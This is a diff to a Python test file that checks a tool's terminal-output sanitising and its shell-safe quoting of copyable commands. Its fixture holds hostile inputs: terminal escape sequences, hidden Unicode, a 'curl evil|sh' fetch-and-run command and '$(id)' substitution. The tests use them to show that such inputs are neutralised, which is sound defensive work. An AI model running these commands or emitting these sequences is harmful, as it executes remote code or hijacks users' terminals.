@@ -3,6 +3,7 @@
 import json
 import shlex
 
+import pytest
 from msgspec import Raw
 
 from bascule.commands.asking import command_line, elsewhere
@@ -14,7 +15,8 @@ from bascule.policy.visible import has_hidden, json_visible
 POISON = "x\x1b]52;c;aGk=\x07\x1b[2J\x9b1m\x7f\u202e\u200b\U000e0041;curl evil|sh #"
 
 
-def test_s59_only_our_own_colours_pass():
+@pytest.mark.row("S59")
+def test_only_our_own_colours_pass():
     ours = Terminal(colour=True).style("bold", "bold") + " é 👩\u200d👧\tx\n"
     assert screened(ours) == ours
     assert screened("a\x1b[5mb\x1b]0;t\x07\r\x9bc\u202e") == (
@@ -22,7 +24,8 @@ def test_s59_only_our_own_colours_pass():
     )
 
 
-def test_s59_json_on_a_terminal_means_the_same_and_hides_nothing():
+@pytest.mark.row("S59")
+def test_json_on_a_terminal_means_the_same_and_hides_nothing():
     value = {POISON: [POISON, "é 漢"]}
     text = json_visible(json.dumps(value, ensure_ascii=False))
     assert json.loads(text) == value
@@ -30,7 +33,8 @@ def test_s59_json_on_a_terminal_means_the_same_and_hides_nothing():
     assert "é 漢" in text
 
 
-def test_s59_a_command_to_copy_is_one_word_for_each_word_and_visible():
+@pytest.mark.row("S59")
+def test_a_command_to_copy_is_one_word_for_each_word_and_visible():
     line = command_line("sessions", "answer", "s1", f"{POISON}\n`id` $(id)")
     assert not has_hidden(line)
     assert "\n" not in line
@@ -38,7 +42,8 @@ def test_s59_a_command_to_copy_is_one_word_for_each_word_and_visible():
     assert len(shlex.split(line)) == 5
 
 
-def test_s59_an_id_of_an_older_log_can_not_begin_a_second_command():
+@pytest.mark.row("S59")
+def test_an_id_of_an_older_log_can_not_begin_a_second_command():
     asked = PermissionRequested(POISON, "Bash", "t", "execute", Raw(b"{}"), "f" * 64, ())
     said = elsewhere("s1", asked)
     words = shlex.split(said.split("with: ")[1].split("   (or:")[0])
